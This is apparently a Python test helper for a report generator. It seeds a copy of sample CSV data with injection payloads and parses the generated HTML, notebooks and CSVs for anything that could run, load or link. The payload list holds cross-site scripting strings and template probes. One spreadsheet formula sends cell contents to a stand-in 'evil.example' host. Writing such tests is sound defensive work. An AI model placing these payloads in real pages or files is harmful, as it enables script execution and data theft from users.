"""Hostile data for the security tests: a copy of data/sample with a payload in every text field.

:func:`write_hostile_sample` rewrites a copy of the bundled sample so that every id, name,
region, channel, category, team, segment and column name carries one of :data:`PAYLOADS`
(script tags, event handlers, ``javascript:`` and ``data:`` URLs, maths text, Markdown links,
autolinks, HTML entities, spreadsheet formulas, a 300-character string), and personal data sits
where no column name announces it (``notes`` free text, a ``tel`` column). Ids stay consistent
across tables (the same id always gets the same payload), so the data validates as before.

:func:`live_markup` and :func:`formula_cells` are the checks: they parse what was written
rather than grep it.
"""

from __future__ import annotations

import csv
import hashlib
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "$\\frac{1}{0}$",
    "[x](javascript:alert(1))",
    "http://evil.example/x",
    "www.evil.example",
    "<http://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;b&#62;",
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "<a href='http://evil.example'>click</a>",
    "![i](http://evil.example/p.png)",
    "<iframe src=//evil.example></iframe>",
    "**bold** _it_ `code` | pipe",
    "{{7*7}} ${7*7}",
    "L" * 300,
)
"""The catalogue: each a way a value could become live markup, a link, maths or a formula."""

ID_PAYLOADS: tuple[str, ...] = tuple(p for p in PAYLOADS if len(p) < 100)
"""Payloads for staff ids (owners get a folder each; long ids are part A's test)."""

SECRET_NOTES = (
    "her cell +1-555-301-7788, mail jo.private@mailbox.example",
    "call (555) 404-1212 after 6pm",
    "prefers e-mail: sam.hidden@home.example",
)
"""Personal data inside free text (the ``notes`` column): it must not reach any output."""

SECRET_PHONES = ("+1-555-777-0101", "+44 20 7946 0958", "555.867.5309")
"""Phone numbers in a column named ``tel`` (no personal-data column name)."""

ODD_COLUMN = "$\\frac{1}{0}$ <img src=x onerror=alert(1)> size"
"""A customer attribute column name with maths text and markup (a churn feature)."""

OWNERS = ("<img src=x onerror=alert(1)>", '"><svg onload=alert(1)> http://evil.example')
"""The two account owners of the hostile company (all customers are split between them)."""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _pick(value: str, choices: tuple[str, ...]) -> str:
    digest = hashlib.sha256(value.encode("utf-8")).digest()
    return choices[digest[0] % len(choices)]


def _decorate(values: pd.Series, choices: tuple[str, ...] = PAYLOADS) -> pd.Series:
    """``payload + value`` with a payload chosen by the value: same value, same result."""
    mapping = {v: f"{_pick(v, choices)}{v}" for v in values.dropna().astype(str).unique()}
    return values.astype(object).map(lambda v: mapping.get(str(v), v) if pd.notna(v) else v)


def write_hostile_sample(source: Path, target: Path, every: int = 2) -> dict[str, list[str]]:
    """Write the hostile copy of the sample in ``source`` to ``target``.

    Every ``every``-th customer is kept with their orders, tickets and surveys (a smaller
    company renders faster; the faulty rows of the sample that reference them stay).

    Returns the personal values the copy holds outside the named columns (``notes``, ``tel``)
    and in them (``name``, ``email``, ``phone``), by kind, for the leak checks.
    """
    if target.exists():
        shutil.rmtree(target)
    target.mkdir(parents=True)
    read = {p.stem: pd.read_csv(p, dtype=str, keep_default_na=False) for p in source.glob("*.csv")}
    tables = {name: frame.replace("", None) for name, frame in read.items()}
    kept = set(tables["customers"]["customer_id"].iloc[::every])
    tables["customers"] = tables["customers"].iloc[::every].reset_index(drop=True)
    for name in ("orders", "tickets", "surveys"):
        frame = tables[name]
        tables[name] = frame.loc[frame["customer_id"].isin(kept)].reset_index(drop=True)
    customers = tables["customers"]
    staff = tables["staff"]
    # staff names are shown by design (report.staff_names: name), escaped like every value; a
    # customer's name never is (one who shares a staff member's name is not revealed by it)
    staff_names = staff["name"].dropna().tolist()
    names = [n for n in customers["name"].dropna().tolist() if n not in set(staff_names)]

    sales = staff.loc[staff["role"] == "sales", "staff_id"].tolist()
    staff_map = {s: f"{_pick(s, ID_PAYLOADS)}{s}" for s in staff["staff_id"]}
    owner_map = {sales[0]: OWNERS[0], sales[1]: OWNERS[1]}
    staff_map.update(owner_map)
    split = [OWNERS[i % 2] for i in range(len(customers))]
    customers["owner_id"] = [f"{o}" for o in split]

    def staff_ids(values: pd.Series) -> pd.Series:
        return values.map(lambda v: staff_map.get(v, v) if v is not None else v)

    staff["staff_id"] = staff_ids(staff["staff_id"])
    staff["manager_id"] = staff_ids(staff["manager_id"])
    staff["name"] = _decorate(staff["name"])
    staff["team"] = _decorate(staff["team"])
    tables["tickets"]["agent_id"] = staff_ids(tables["tickets"]["agent_id"])
    tables["assessments"]["staff_id"] = staff_ids(tables["assessments"]["staff_id"])
    targets = tables["targets"]
    targets["owner_id"] = staff_ids(targets["owner_id"])
    extra = targets.loc[targets["owner_id"].isna()].tail(2).copy()
    extra["segment"] = [PAYLOADS[0], "Champions"]
    targets["segment"] = None
    tables["targets"] = pd.concat([targets, extra], ignore_index=True)

    for name in ("customers", "orders", "tickets", "surveys"):
        tables[name]["customer_id"] = _decorate(tables[name]["customer_id"])
    for name, column in (("orders", "order_id"), ("tickets", "ticket_id")):
        tables[name][column] = _decorate(tables[name][column])
    for name, columns in (
        ("customers", ("region", "channel", "name")),
        ("orders", ("category",)),
        ("tickets", ("category",)),
        ("surveys", ("channel",)),
    ):
        for column in columns:
            tables[name][column] = _decorate(tables[name][column])
    customers = tables["customers"]
    customers["notes"] = [SECRET_NOTES[i % len(SECRET_NOTES)] for i in range(len(customers))]
    customers["tel"] = [SECRET_PHONES[i % len(SECRET_PHONES)] for i in range(len(customers))]
    customers = customers.rename(columns={"company_size": ODD_COLUMN})
    # a duplicated customer row naming the other owner (quarantined, must stay in one book)
    duplicate = customers.iloc[[0]].copy()
    duplicate["owner_id"] = OWNERS[1] if customers["owner_id"].iloc[0] == OWNERS[0] else OWNERS[0]
    duplicate["notes"] = "duplicate row: her cell +1-555-301-7788"
    tables["customers"] = pd.concat([customers, duplicate], ignore_index=True)
    for name, frame in tables.items():
        frame.to_csv(target / f"{name}.csv", index=False)
    personal = {
        "phone": [*SECRET_PHONES, "+1-555-301-7788", "(555) 404-1212"],
        "email": ["jo.private@mailbox.example", "sam.hidden@home.example"],
        "name": names,
        "staff_name": staff_names,
    }
    personal["email"] += customers["email"].dropna().tolist()
    personal["phone"] += customers["phone"].dropna().tolist()
    return personal


# --- checks ------------------------------------------------------------------------------------

_EVENT = re.compile(r"^on", re.IGNORECASE)
_ACTIVE_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "base",
    "frame", "frameset", "applet", "link", "meta", "style", "template", "audio", "video",
}  # fmt: skip
_HEAD_OK = {"meta", "style", "link"}  # allowed only in the template's <head>


class _Markup(HTMLParser):
    def __init__(self, links: frozenset[str], svg: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = False
        self.script: str | None = None
        self.links = links
        self.svg = svg

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "head":
            self.in_head = True
        if tag == "script":
            self.script = ""
        if tag in _ACTIVE_TAGS and not (
            (self.in_head and tag in _HEAD_OK) or (self.svg and tag == "svg")
        ):
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and any(k == "http-equiv" for k, _ in attrs):
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if _EVENT.match(name):
                self.problems.append(f"{name}= attribute on <{tag}>")
            if name in {"href", "src", "action", "formaction", "xlink:href", "srcset", "data"}:
                if name == "href" and not text.startswith("#") and tag != "a":
                    self.problems.append(f"{name}={text[:40]!r} on <{tag}>")
                elif name == "href" and not (text.startswith("#") or value in self.links):
                    self.problems.append(f"a link the report did not make: {text[:40]!r}")
                elif name == "src" and not text.startswith("data:image/png;base64,"):
                    self.problems.append(f"src={text[:40]!r} on <{tag}>")
                elif name not in {"href", "src"}:
                    self.problems.append(f"{name}= on <{tag}>")
            if "javascript:" in text:
                self.problems.append(f"javascript: URL in {name}= on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self.in_head = False
        if tag == "script":
            if self.script and self.script.strip():
                self.problems.append("<script> with content")
            self.script = None

    def handle_data(self, data: str) -> None:
        if self.script is not None:
            self.script += data


def live_markup(html: str, links: frozenset[str] = frozenset(), svg: bool = False) -> list[str]:
    """What in ``html`` could run, load or link: elements, handlers, URLs (empty when inert).

    Links other than ``#anchors`` must be in ``links`` (the files the report wrote); ``svg``
    allows inline ``<svg>`` drawings (the index's sparklines; their attributes are checked).

    Examples
    --------
    >>> live_markup('<p>&lt;img src=x onerror=alert(1)&gt;</p><a href="#top">top</a>')
    []
    >>> live_markup('<img src=x onerror=alert(1)><a href="http://x">x</a>')
    ["src='x' on <img>", 'onerror= attribute on <img>', "a link the report did not make: 'http://x'"]
    """
    parser = _Markup(links, svg)
    parser.feed(html)
    parser.close()
    return parser.problems


def notebook_markup(path: Path) -> list[str]:
    """:func:`live_markup` of everything a notebook viewer renders: HTML and Markdown outputs
    and Markdown cells (Markdown is rendered as nbconvert renders it)."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    nb = json.loads(path.read_text(encoding="utf-8"))
    problems = []
    for number, cell in enumerate(nb["cells"]):
        sources = []
        if cell["cell_type"] == "markdown":
            sources.append(markdown2html_mistune("".join(cell["source"])))
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            for mime, value in data.items():
                text = "".join(value) if isinstance(value, list) else str(value)
                if mime == "text/html":
                    sources.append(text)
                elif mime == "text/markdown":
                    sources.append(markdown2html_mistune(text))
                elif any(k in mime for k in ("javascript", "svg", "widget")):
                    problems.append(f"cell {number}: active output {mime}")
        for source in sources:
            problems += [f"cell {number}: {p}" for p in live_markup(source)]
    return problems


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would read as a formula (read back with ``csv``).

    A cell is a formula when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return and is not a plain number.
    """
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return [
        f"row {r + 1}: {cell[:40]!r}"
        for r, row in enumerate(rows)
        for cell in row
        if cell.startswith(FORMULA_START) and not _is_number(cell)
    ]
